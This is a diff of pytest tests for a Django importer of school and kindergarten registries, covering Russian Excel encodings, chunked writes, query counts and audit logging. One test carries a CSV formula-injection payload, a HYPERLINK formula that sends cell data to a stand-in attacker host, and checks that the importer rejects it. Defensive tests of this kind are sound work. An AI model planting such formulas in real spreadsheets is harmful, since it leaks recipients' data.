@@ -308,13 +308,116 @@ def test_a_missing_required_column_is_reported_on_the_header_row(db, tmp_path):
     assert Organization.objects.count() == 0
 
 
-def test_a_csv_not_in_utf8_is_refused_with_advice(db, tmp_path):
-    path = write_csv(tmp_path, [SOSH_9], encoding="cp1251")
+def excel_csv(rows: list[dict], *, encoding: str, bom: bool) -> bytes:
+    """The bytes Russian Excel writes: semicolons, CRLF, and a BOM for «CSV UTF-8»."""
+    lines = [";".join(HEADER)] + [";".join(row.get(column, "") for column in HEADER) for row in rows]
+    return (b"\xef\xbb\xbf" if bom else b"") + "\r\n".join(lines).encode(encoding) + b"\r\n"
+
+
+@pytest.mark.parametrize(
+    ("encoding", "bom", "named"),
+    [("utf-8", True, "CSV, UTF-8 с BOM, разделитель «;»"), ("cp1251", False, "CSV, Windows-1251, разделитель «;»")],
+    ids=["CSV UTF-8", "CSV (разделители-запятые)"],
+)
+def test_a_registry_as_russian_excel_saves_it_is_read_and_its_form_named(db, tmp_path, encoding, bom, named):
+    path = tmp_path / "registry.csv"
+    path.write_bytes(excel_csv([SOSH_9, DS_10], encoding=encoding, bom=bom))
+
+    output = run(path)
+
+    assert f"создано 2, обновлено 0 (файл: {named})" in output
+    school = Organization.objects.get(short_name="СОШ №9")
+    assert (school.name, school.address) == (SOSH_9["name"], SOSH_9["address"])
+    assert school.website == "https://sosh9.kush.edu.example"  # the last column, without a stray \r
+    assert Organization.objects.get(short_name="д/с №10").kind == Organization.Kind.KINDERGARTEN
+
+
+def test_a_plain_utf8_csv_with_commas_is_named_so(db, tmp_path):
+    assert "(файл: CSV, UTF-8, разделитель «,»)" in run(write_csv(tmp_path, [SOSH_9]))
+
+
+# --- formulas --------------------------------------------------------------------------------------
+
+
+def test_a_csv_value_that_is_a_formula_is_refused_with_its_row_and_column(db, tmp_path):
+    hostile = {**DS_10, "name": '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'}
+
+    lines = run_failing(write_csv(tmp_path, [SOSH_9, hostile]))
+
+    assert len(lines) == 1
+    assert lines[0].startswith("row 3: name: в ячейке B3 формула «=HYPERLINK(")
+    assert "а не значение" in lines[0]
+    assert Organization.objects.count() == 0
+
+
+def test_an_xlsx_formula_cell_without_a_cached_value_is_named_not_dropped(db, tmp_path):
+    # openpyxl writes a formula with no cached value: read with data_only it would be None.
+    path = write_xlsx(tmp_path, [["СОШ №4", '="МБОУ "&A2', "школа"], ["Юниор", "МБУ ДО «Юниор»", "ОДО"]])
 
     lines = run_failing(path)
 
-    assert lines == ["row 1: file: Файл не в кодировке UTF-8. Сохраните CSV как «CSV UTF-8»."]
+    assert lines == [
+        "row 2: name: в ячейке B2 формула «=\"МБОУ \"&A2», а не значение: вставьте в неё само значение "
+        "(в Excel: Копировать → Специальная вставка → Значения)"
+    ]
     assert Organization.objects.count() == 0
+
+
+# --- big files -------------------------------------------------------------------------------------
+
+
+def numbered(count: int) -> list[dict]:
+    return [
+        {"short_name": f"ОУ №{n}", "name": f"МБОУ №{n}", "kind": "школа", "vk_url": f"vk.com/school_{n}",
+         "ok_url": f"ok.ru/group{5000000000000 + n}", "phone": "+7 (86168) 4-89-86"}
+        for n in range(count)
+    ]
+
+
+def queries_to_import(tmp_path, rows: list[dict]) -> int:
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    with CaptureQueriesContext(connection) as captured:
+        run(write_csv(tmp_path, rows, name=f"registry-{len(rows)}.csv"))
+    return len(captured.captured_queries)
+
+
+def test_the_queries_of_a_chunk_do_not_grow_with_its_rows(db, tmp_path):
+    few, many = queries_to_import(tmp_path, numbered(3)), queries_to_import(tmp_path, numbered(60)[30:])
+
+    assert many == few
+    assert Organization.objects.count() == 33 and OfficialPage.objects.count() == 66
+    assert ChecklistEntry.objects.filter(organization__short_name="ОУ №59").count() == 11
+
+
+def test_a_big_file_is_written_in_chunks_with_a_progress_bar_and_audited(db, tmp_path, monkeypatch):
+    from auditlog.models import LogEntry
+
+    monkeypatch.setattr("organizations.importer.CHUNK_ROWS", 10)
+
+    output = run(write_csv(tmp_path, numbered(25)))
+
+    assert [line.split("] ")[1] for line in output.splitlines() if line.startswith("[")] == ["10/25", "20/25", "25/25"]
+    assert "создано 25" in output
+    created = LogEntry.objects.get_for_object(Organization.objects.get(short_name="ОУ №24")).get()
+    assert created.action == LogEntry.Action.CREATE and created.changes_dict["name"] == ["None", "МБОУ №24"]
+    assert LogEntry.objects.filter(action=LogEntry.Action.CREATE, content_type__model="officialpage").count() == 50
+
+
+def test_a_changed_row_is_audited_old_to_new_and_an_unchanged_one_is_not_written(db, tmp_path):
+    from auditlog.models import LogEntry
+
+    run(write_csv(tmp_path, [SOSH_9, DS_10]))
+    before = LogEntry.objects.count()
+
+    output = run(write_csv(tmp_path, [{**SOSH_9, "name": "МБОУ СОШ №9"}, DS_10]))
+
+    assert "создано 0, обновлено 2" in output
+    update = LogEntry.objects.filter(pk__gt=0).order_by("-pk").first()
+    assert LogEntry.objects.count() == before + 1
+    assert update.action == LogEntry.Action.UPDATE
+    assert update.changes_dict == {"name": [SOSH_9["name"], "МБОУ СОШ №9"]}
 
 
 def test_a_text_file_is_refused(db, tmp_path):
